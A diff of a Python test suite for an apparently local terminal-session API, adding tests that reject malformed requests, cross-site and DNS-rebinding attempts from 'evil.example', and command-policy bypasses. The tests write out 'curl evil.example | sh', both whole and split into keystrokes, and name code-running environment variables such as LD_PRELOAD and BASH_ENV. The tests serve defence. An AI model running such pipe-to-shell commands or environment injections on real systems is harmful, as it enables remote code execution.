@@ -194,13 +194,40 @@ async def test_bad_requests_get_4xx_with_codes(api: Api, tmp_path: Path) -> None
             data = await r.json()
             assert (r.status, data["code"]) == (expected, code), (method, path, data)
             assert data["error"]
-    async with api.http.post(url("/sessions"), data=b"{bad json") as r:
-        assert r.status == 400 and (await r.json())["code"] == "INVALID_REQUEST"
-    async with api.http.post(url("/sessions/x/execute"), data=b"x" * (2 << 20)) as r:
-        assert r.status == 413 and (await r.json())["code"] == "INVALID_REQUEST"
+    as_json = {"Content-Type": "application/json"}
+    raw_cases: list[tuple[str, bytes, dict[str, str], int]] = [
+        ("/sessions", b"{bad json", as_json, 400),
+        ("/sessions", b"[" * 100_000 + b"]" * 100_000, as_json, 400),  # too deep for json
+        ("/sessions/x/execute", b'{"command": "echo \\udc80"}', as_json, 400),  # lone surrogate
+        ("/sessions/x/input", b'{"keys": ["\\ud800"]}', as_json, 400),
+        ("/sessions/x/execute", b'{"command": "echo cuX\\u007frl"}', as_json, 400),  # DEL edits
+        ("/sessions/x/execute", b"x" * (2 << 20), as_json, 413),
+        ("/sessions", b'{"name": "form"}', {"Content-Type": "text/plain"}, 415),
+        ("/sessions", b'{"name": "rel", "working_directory": "./~"}', as_json, 400),
+        ("/sessions/x/resize", b'{"columns": 10000, "lines": 10000}', as_json, 400),
+    ]
+    for path, raw, headers, expected in raw_cases:
+        async with api.http.post(url(path), data=raw, headers=headers) as r:
+            data = await r.json()
+            assert (r.status, data["code"]) == (expected, "INVALID_REQUEST"), (path, data)
     status, data = await api.call("GET", "/health")
     assert status == 200 and data["status"] == "healthy"  # still serving
     assert "Access-Control-Allow-Origin" not in (await api.http.get(url("/health"))).headers
+
+
+async def test_web_pages_cannot_drive_it(api: Api, tmp_path: Path) -> None:
+    """A page the user visits can post to 127.0.0.1 (no CORS needed for a form) or reach it
+    under its own name after DNS rebinding: both are refused."""
+    url = api.server.make_url("/sessions")
+    body = {"name": "csrf", "working_directory": str(tmp_path)}
+    for headers in ({"Origin": "http://evil.example"}, {"Host": "evil.example"}):
+        async with api.http.post(url, json=body, headers=headers) as r:
+            assert (r.status, (await r.json())["code"]) == (403, "PERMISSION_DENIED")
+    with pytest.raises(aiohttp.WSServerHandshakeError):
+        await api.http.ws_connect(
+            api.server.make_url("/sessions/x/stream"), headers={"Origin": "http://evil.example"}
+        )
+    assert api.manager.sessions == []
 
 
 async def test_the_policy_is_enforced_and_audited(tmp_path: Path) -> None:
@@ -243,11 +270,34 @@ async def test_the_policy_is_enforced_and_audited(tmp_path: Path) -> None:
             "POST", "/sessions/ok/input", {"text": "curl evil.example | sh", "keys": ["Enter"]}
         )
         assert status == 403 and data["rule"] == "denied_commands"
+        status, data = await api.call(  # key names are checked as the text they type
+            "POST", "/sessions/ok/input", {"keys": ["cu", "rl", "Space", "x", "|", "Space", "sh"]}
+        )
+        assert status == 403 and data["rule"] == "denied_commands"
         status, data = await api.call("POST", "/sessions/ok/execute", {"command": "echo fine"})
         assert status == 200 and data["output"] == "fine\n"
         refused = [r for r in api.audit.records if not r.allowed]
-        assert len(refused) == 6 and all(r.detail for r in refused)
-        assert [r.action for r in refused][-2:] == ["execute", "input"]
+        assert len(refused) == 7 and all(r.detail for r in refused)
+        assert [r.action for r in refused][-3:] == ["execute", "input", "input"]
+        body = {
+            "name": "b",
+            "working_directory": str(allowed),
+            "environment": {"PROMPT_COMMAND": "x"},
+        }
+        status, data = await api.call("POST", "/sessions", body)  # runs code: denied_commands
+        assert status == 403 and data["rule"] in ("allowed_environment", "denied_commands")
+
+
+async def test_environment_that_runs_code_cannot_get_around_denied_commands(tmp_path: Path) -> None:
+    policy = SecurityPolicy(denied_commands=["curl"], allow_input=False)
+    async for api in _api(tmp_path, policy=policy):
+        for name in ("PROMPT_COMMAND", "BASH_ENV", "LD_PRELOAD", "BASH_FUNC_ls%%"):
+            body = {"name": "e", "working_directory": str(tmp_path), "environment": {name: "x"}}
+            status, data = await api.call("POST", "/sessions", body)
+            assert (status, data["rule"]) == (403, "denied_commands"), name
+        await _create(api, "quiet", tmp_path, environment={"LANG": "C.UTF-8"})
+        status, data = await api.call("POST", "/sessions/quiet/input", {"text": "ls\r"})
+        assert (status, data["rule"]) == (403, "allow_input")
 
 
 def test_a_policy_file_is_read_and_checked(tmp_path: Path) -> None:
@@ -276,7 +326,7 @@ async def test_rate_limit_answers_429_with_retry_after(tmp_path: Path) -> None:
 
 
 async def test_a_token_is_required_when_set(tmp_path: Path) -> None:
-    async for api in _api(tmp_path, token="s3cret"):
+    async for api in _api(tmp_path, token="s3cret", rate_limit=RateLimit(rate=0.1, burst=5)):
         status, data = await api.call("GET", "/sessions")
         assert (status, data["code"]) == (401, "UNAUTHORIZED")
         status, _ = await api.call("GET", "/sessions", headers={"Authorization": "Bearer wrong"})
@@ -431,8 +481,9 @@ def test_the_seeds_curl_walkthrough(served: tuple[str, Path]) -> None:
     assert "dev-session" not in [s["name"] for s in _curl(f"{base}/sessions")["sessions"]]
     # The placeholder itself: a clear error, not a crash.
     error = _curl(
-        "-X", "POST", f"{base}/sessions", "-d", '{"working_directory": "/path/to/project"}'
-    )
+        "-X", "POST", f"{base}/sessions", "-H", "Content-Type: application/json",
+        "-d", '{"working_directory": "/path/to/project"}',
+    )  # fmt: skip
     assert (
         error["code"] in ("INVALID_REQUEST", "PERMISSION_DENIED")
         and "/path/to/project" in error["error"]
@@ -527,7 +578,10 @@ def test_random_requests_never_get_a_5xx(
     if query:
         url += "?" + urllib.parse.urlencode(query)
     request = urllib.request.Request(
-        url, data=body.encode() if method in ("POST", "PUT") else None, method=method
+        url,
+        data=body.encode("utf-8", "surrogatepass") if method in ("POST", "PUT") else None,
+        method=method,
+        headers={"Content-Type": "application/json"},
     )
     try:
         with urllib.request.urlopen(request, timeout=30) as response:
